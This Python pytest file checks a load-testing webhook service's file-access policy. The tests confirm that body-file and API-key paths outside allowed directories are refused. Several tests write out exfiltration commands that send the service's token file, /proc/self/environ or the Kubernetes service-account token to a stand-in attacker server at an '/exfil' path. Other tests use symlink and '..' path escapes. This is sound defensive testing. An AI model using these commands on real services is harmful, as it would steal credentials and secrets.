"""hey's -D and Concord's apiKeyPath read files only where -allow-file-dir
allows, never the service's secrets nor /proc; -allow-cmd matches `type: load` too."""

from __future__ import annotations

import json
import os
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from aiohttp import web
from aiohttp.test_utils import TestClient, TestServer

from loadtester.cli import parse_settings, usage
from loadtester.filepolicy import (
    NO_DIRECTORIES_WARNING,
    FileNotAllowed,
    FilePolicy,
    startup_warning,
)
from loadtester.files import read_regular_file
from loadtester.settings import Settings
from tests.support.client import ClientFactory
from tests.support.fakes.concord import FakeConcord
from tests.support.service import Services

TOKEN_A = "team-a-token-0123456789abcdef"
TOKEN_ALL = "admin-token-fedcba9876543210"
TOKENS = f"team-a {TOKEN_A} alice\n* {TOKEN_ALL} root\n"
KUBECTL_ONLY = (r"kubectl rollout status deploy/[a-z0-9-]+",)
Received = list[tuple[str, bytes]]


@pytest.fixture
def token_file(tmp_path: Path) -> Path:
    """A token file with a team-a token and a `*` token, outside any allowed directory."""
    path = tmp_path / "secrets" / "tokens"
    path.parent.mkdir()
    path.write_text(TOKENS)
    return path


@pytest.fixture
def allowed(tmp_path: Path) -> Path:
    """The directory -allow-file-dir names in these tests, with one request body in it."""
    directory = tmp_path / "bodies"
    directory.mkdir()
    (directory / "body.json").write_text('{"hello": "canary"}')
    return directory


@pytest.fixture
async def attacker(aiohttp_server: Any) -> tuple[str, Received]:
    """A real HTTP server on 127.0.0.1 (the `attacker`): its URL and what it got."""
    received: Received = []

    async def record(request: web.Request) -> web.Response:
        received.append((request.path, await request.read()))
        return web.Response(text="ok")

    app = web.Application()
    app.router.add_route("*", "/{tail:.*}", record)
    server: TestServer = await aiohttp_server(app)
    return str(server.make_url("")).rstrip("/"), received


def load(cmd: str | None = None, namespace: str = "team-a", **metadata: str) -> dict[str, Any]:
    """A `type: load` payload of a team-a canary."""
    meta: dict[str, str] = {"type": "load", **metadata}
    if cmd is not None:
        meta["cmd"] = cmd
    return {"name": "podinfo", "namespace": namespace, "phase": "Progressing", "metadata": meta}


async def post(
    client: TestClient[Any, Any], body: dict[str, Any], token: str = TOKEN_A
) -> tuple[int, str]:
    """Status and body of POST / with a Bearer token."""
    async with client.post(
        "/", data=json.dumps(body), headers={"Authorization": f"Bearer {token}"}
    ) as response:
        return response.status, await response.text()


# the attack end to end ----------------------------------------------------------------------


async def test_token_theft_refused_with_allow_cmd(
    make_client: ClientFactory, token_file: Path, attacker: tuple[str, Received]
) -> None:
    """The token-stealing payload under -allow-cmd kubectl-only and -token-file: 403, nothing
    sent."""
    url, received = attacker
    client = await make_client(token_file=str(token_file), allow_cmd=KUBECTL_ONLY)
    cmd = f"hey -n 1 -c 1 -m POST -D {token_file} {url}/exfil"
    status, text = await post(client, load(cmd, wait="true"))
    assert (status, text) == (
        403,
        f"command not allowed: load {cmd}"[: len("command not allowed: ") + 80],
    )
    assert received == []


@pytest.mark.parametrize("allow_cmd", [(), (r"load hey .*",)], ids=["no-allow-cmd", "load-allowed"])
async def test_token_file_is_never_read(
    make_client: ClientFactory,
    token_file: Path,
    attacker: tuple[str, Received],
    allow_cmd: tuple[str, ...],
) -> None:
    """Even where the command is allowed and no -allow-file-dir is set, -D of the token file
    answers `403 file not allowed` and the target gets no request."""
    url, received = attacker
    client = await make_client(token_file=str(token_file), allow_cmd=allow_cmd)
    cmd = f"hey -n 1 -c 1 -m POST -D {token_file} {url}/exfil"
    assert await post(client, load(cmd, wait="true")) == (403, f"file not allowed: {token_file}")
    assert received == []


async def test_file_outside_allowed_dirs(
    make_client: ClientFactory,
    token_file: Path,
    allowed: Path,
    tmp_path: Path,
    attacker: tuple[str, Received],
) -> None:
    """With -allow-file-dir naming another directory, the token file and any other file
    outside it answer 403; the target gets nothing."""
    url, received = attacker
    other = tmp_path / "other.txt"
    other.write_text("not a secret, but not allowed either")
    client = await make_client(token_file=str(token_file), allow_file_dir=(str(allowed),))
    for path in (token_file, other):
        cmd = f"hey -n 1 -c 1 -m POST -D {path} {url}/exfil"
        assert await post(client, load(cmd, wait="true")) == (403, f"file not allowed: {path}")
    assert received == []


async def test_allowed_body_file_reaches_the_target(
    make_client: ClientFactory, token_file: Path, allowed: Path, attacker: tuple[str, Received]
) -> None:
    """A -D file under an allowed directory is sent as the body, as hey does."""
    url, received = attacker
    client = await make_client(token_file=str(token_file), allow_file_dir=(str(allowed),))
    cmd = f"hey -n 1 -c 1 -m POST -D {allowed / 'body.json'} {url}/orders"
    status, _ = await post(client, load(cmd, wait="true"))
    assert status == 200
    assert received == [("/orders", b'{"hello": "canary"}')]


async def test_symlink_and_dotdot_escapes(
    make_client: ClientFactory,
    token_file: Path,
    allowed: Path,
    tmp_path: Path,
    attacker: tuple[str, Received],
) -> None:
    """A symlink inside the allowed directory to a file outside it, a symlinked directory,
    and `..` out of it are all refused: the real path counts."""
    url, received = attacker
    outside = tmp_path / "outside.txt"
    outside.write_text("outside")
    (allowed / "to-tokens").symlink_to(token_file)
    (allowed / "to-outside").symlink_to(outside)
    (allowed / "secrets-dir").symlink_to(token_file.parent, target_is_directory=True)
    client = await make_client(token_file=str(token_file), allow_file_dir=(str(allowed),))
    for path in (
        f"{allowed}/to-tokens",
        f"{allowed}/to-outside",
        f"{allowed}/secrets-dir/tokens",
        f"{allowed}/../outside.txt",
        f"{allowed}/../secrets/tokens",
    ):
        cmd = f"hey -n 1 -c 1 -m POST -D {path} {url}/exfil"
        assert await post(client, load(cmd, wait="true")) == (403, f"file not allowed: {path}")
    assert received == []


async def test_token_file_refused_inside_allowed_dir(
    make_client: ClientFactory, allowed: Path, attacker: tuple[str, Received]
) -> None:
    """The token file is refused even in an allowed directory, as is a hard link to it."""
    url, received = attacker
    tokens = allowed / "tokens"
    tokens.write_text(TOKENS)
    os.link(tokens, allowed / "innocent.json")
    client = await make_client(token_file=str(tokens), allow_file_dir=(str(allowed),))
    for path in (tokens, allowed / "innocent.json"):
        cmd = f"hey -n 1 -c 1 -m POST -D {path} {url}/exfil"
        assert await post(client, load(cmd, wait="true")) == (403, f"file not allowed: {path}")
    assert received == []


async def test_proc_is_never_read(
    make_client: ClientFactory, attacker: tuple[str, Received], allowed: Path
) -> None:
    """/proc/self/environ (the service's environment), /sys and the service account token
    are refused with or without -allow-file-dir, even when `/` is allowed."""
    url, received = attacker
    for allow_file_dir in ((), ("/",)):
        client = await make_client(allow_file_dir=allow_file_dir)
        for path in (
            "/proc/self/environ",
            "/proc/self/root/proc/1/environ",
            "/sys/kernel/hostname",
            "/var/run/secrets/kubernetes.io/serviceaccount/token",
        ):
            cmd = f"hey -n 1 -c 1 -m POST -D {path} {url}/exfil"
            assert await post(client, load(cmd, wait="true")) == (403, f"file not allowed: {path}")
    assert received == []


async def test_event_config_secrets_and_store_are_refused(
    make_client: ClientFactory,
    tmp_path: Path,
    attacker: tuple[str, Received],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """The files -config reads secrets from, -config itself, a LOADTESTER_*_FILE and the
    SQLite store are refused without any -allow-file-dir."""
    url, received = attacker
    slack = tmp_path / "slack-url"
    slack.write_text("https://hooks.slack.example/services/T0/B0/secret\n")
    config = tmp_path / "events.yaml"
    config.write_text(f"sinks:\n  team: {{type: slack, url_file: {slack}}}\n")
    discord = tmp_path / "discord-url"
    discord.write_text("https://discord.example/api/webhooks/1/secret\n")
    monkeypatch.setenv("LOADTESTER_DISCORD_URL_FILE", str(discord))
    client = await make_client(config=str(config), state=str(tmp_path / "state"))
    database = tmp_path / "state" / "loadtester.db"
    assert database.exists()
    for path in (slack, config, discord, database):
        cmd = f"hey -n 1 -c 1 -m POST -D {path} {url}/exfil"
        assert await post(client, load(cmd, wait="true")) == (403, f"file not allowed: {path}")
    assert received == []


async def test_devices_keep_their_400(make_client: ClientFactory) -> None:
    """Without -allow-file-dir a device under /dev is still the 400 of a non-regular file."""
    client = await make_client()
    cmd = "hey -n 1 -c 1 -D /dev/zero http://127.0.0.1:1/"
    assert await post(client, load(cmd, namespace="test")) == (
        400,
        "invalid value for flag -D: not a regular file (a character device): /dev/zero",
    )


# Concord's apiKeyPath -----------------------------------------------------------------------


def concord(server: str, key_path: str) -> dict[str, Any]:
    """A `type: concord` payload of a team-a canary."""
    return {
        "name": "podinfo",
        "namespace": "team-a",
        "phase": "Progressing",
        "metadata": {
            "type": "concord",
            "server": server,
            "org": "acme",
            "project": "canaries",
            "repo": "checks",
            "entrypoint": "smoke",
            "apiKeyPath": key_path,
            "endpoint": "http://podinfo-canary.test:9898",
            "pollInterval": "0.01",
        },
    }


async def test_concord_key_refused(
    make_client: ClientFactory, aiohttp_server: Any, token_file: Path, allowed: Path
) -> None:
    """apiKeyPath naming the token file (default policy) or a file outside -allow-file-dir
    answers 403; the fake Concord gets no request."""
    fake = FakeConcord()
    server = str((await aiohttp_server(fake.app())).make_url("")).rstrip("/")
    client = await make_client(token_file=str(token_file))
    assert await post(client, concord(server, str(token_file))) == (
        403,
        f"file not allowed: {token_file}",
    )
    client = await make_client(token_file=str(token_file), allow_file_dir=(str(allowed),))
    outside = token_file.parent / "concord-key"
    outside.write_text("key-outside\n")
    assert await post(client, concord(server, str(outside))) == (
        403,
        f"file not allowed: {outside}",
    )
    assert fake.starts == [] and fake.polls == []


async def test_concord_key_allowed(
    make_client: ClientFactory, aiohttp_server: Any, token_file: Path, allowed: Path
) -> None:
    """apiKeyPath under an allowed directory is read and sent as the Authorization header."""
    fake = FakeConcord()
    server = str((await aiohttp_server(fake.app())).make_url("")).rstrip("/")
    key = allowed / "concord-key"
    key.write_text("concord-api-key\n")
    client = await make_client(token_file=str(token_file), allow_file_dir=(str(allowed),))
    status, _ = await post(client, concord(server, str(key)))
    assert status == 200
    assert [start.authorization for start in fake.starts] == ["concord-api-key"]


# the checks themselves ----------------------------------------------------------------------


def test_opened_file_is_checked_not_only_its_name(tmp_path: Path, allowed: Path) -> None:
    """The check after the open looks at the file the descriptor is on: a token file opened
    in place of an allowed path (a swap between check and open) is refused."""
    tokens = tmp_path / "tokens"
    tokens.write_text(TOKENS)
    policy = FilePolicy((str(allowed),), (str(tokens),))
    innocent = str(allowed / "body.json")
    assert policy.resolve(innocent) == os.path.realpath(innocent)
    fd = os.open(tokens, os.O_RDONLY)
    try:
        with pytest.raises(FileNotAllowed, match=f"^file not allowed: {innocent}$"):
            policy.check_opened(innocent, innocent, fd, os.fstat(fd))
    finally:
        os.close(fd)


def test_refusal_names_the_path_on_one_line(tmp_path: Path) -> None:
    """A path with a newline is shown escaped, on one line."""
    policy = FilePolicy((str(tmp_path / "bodies"),))
    path = str(tmp_path / "a\nb")
    with pytest.raises(FileNotAllowed) as refused:
        read_regular_file(path, 1024, policy)
    assert str(refused.value) == f"file not allowed: {path!a}"
    assert "\n" not in str(refused.value)


def test_regular_file_under_dev_is_refused() -> None:
    """A regular file under /dev (/dev/shm) is not a body file: 403, not read."""
    if not os.access("/dev/shm", os.W_OK):
        pytest.skip("no writable /dev/shm")
    path = f"/dev/shm/loadtester-test-{os.getpid()}"
    Path(path).write_text("shared memory")
    try:
        with pytest.raises(FileNotAllowed):
            read_regular_file(path, 1024, FilePolicy())
        assert read_regular_file(path, 1024) == b"shared memory"  # no policy: no check
    finally:
        os.unlink(path)


# -allow-cmd and type: load ------------------------------------------------------------------


async def test_allow_cmd_matches_load_command(
    make_client: ClientFactory, attacker: tuple[str, Received]
) -> None:
    """`type: load` with a hey command line is matched as `load <cmd>`: allowed targets run,
    any other URL in the command answers 403 before a request is sent."""
    url, received = attacker
    allow = (r"load hey -n \d+ -c \d+ http://127\.0\.0\.1:\d+/ok",)
    client = await make_client(allow_cmd=allow)
    status, _ = await post(client, load(f"hey -n 1 -c 1 {url}/ok", namespace="test", wait="true"))
    assert status == 200
    assert await post(client, load(f"hey -n 1 -c 1 {url}/evil", namespace="test", wait="true")) == (
        403,
        f"command not allowed: load hey -n 1 -c 1 {url}/evil",
    )
    assert [path for path, _ in received] == ["/ok"]


async def test_allow_cmd_matches_each_scenario_url(
    make_client: ClientFactory, attacker: tuple[str, Received]
) -> None:
    """A load given by `url` or a `scenario` is matched as `load <url>` for every URL it
    would request (relative ones resolved against `url`): one refused URL refuses the run."""
    url, received = attacker
    client = await make_client(allow_cmd=(r"load http://127\.0\.0\.1:\d+/ok(/.*)?",))
    status, _ = await post(
        client, load(namespace="test", url=f"{url}/ok", requests="1", wait="true")
    )
    assert status == 200
    assert await post(client, load(namespace="test", url=f"{url}/evil", wait="true")) == (
        403,
        f"command not allowed: load {url}/evil",
    )
    scenario = f"requests:\n  - url: {url}/ok/a\n  - url: /evil\n"
    assert await post(
        client,
        load(namespace="test", url=f"{url}/ok/", scenario=scenario, requests="2", wait="true"),
    ) == (403, f"command not allowed: load {url}/evil")
    fine = f"requests:\n  - url: {url}/ok/a\n  - url: b\n"
    status, _ = await post(
        client, load(namespace="test", url=f"{url}/ok/", scenario=fine, requests="2", wait="true")
    )
    assert status == 200
    assert sorted(path for path, _ in received) == ["/ok", "/ok/a", "/ok/b"]


# settings and start-up ----------------------------------------------------------------------


def test_allow_file_dir_flag_and_environment() -> None:
    """-allow-file-dir repeats; LOADTESTER_ALLOW_FILE_DIR holds one directory a line; --help
    names it."""
    settings = parse_settings(["-allow-file-dir", "/a", "-allow-file-dir=/b"], environ={})
    assert settings.allow_file_dir == ("/a", "/b")
    from_env = parse_settings([], environ={"LOADTESTER_ALLOW_FILE_DIR": "/a\n\n /b \n"})
    assert from_env.allow_file_dir == ("/a", "/b")
    assert parse_settings([], environ={}).allow_file_dir == ()
    assert "-allow-file-dir" in usage()


def test_startup_warning_decision(make_settings: Callable[..., Settings]) -> None:
    """The warning is due only with -token-file and without -allow-file-dir."""
    assert startup_warning(make_settings(token_file="/t")) == NO_DIRECTORIES_WARNING
    assert startup_warning(make_settings(token_file="/t", allow_file_dir=("/d",))) is None
    assert startup_warning(make_settings()) is None


@pytest.mark.system
def test_startup_warning_in_the_log(tmp_path: Path, token_file: Path, allowed: Path) -> None:
    """The real service logs the warning once at start-up with -token-file alone, and not
    with -allow-file-dir."""
    services = Services(tmp_path)
    try:
        for extra, expected in (((), 1), ((f"-allow-file-dir={allowed}",), 0)):
            service = services.start(f"-token-file={token_file}", "-state=memory", *extra)
            service.wait_healthy()
            assert service.stop() == 0
            events = [json.loads(line) for line in service.log_lines()]
            warnings = [e for e in events if e["event"] == NO_DIRECTORIES_WARNING]
            assert len(warnings) == expected and all(e["level"] == "warning" for e in warnings)
    finally:
        services.close()
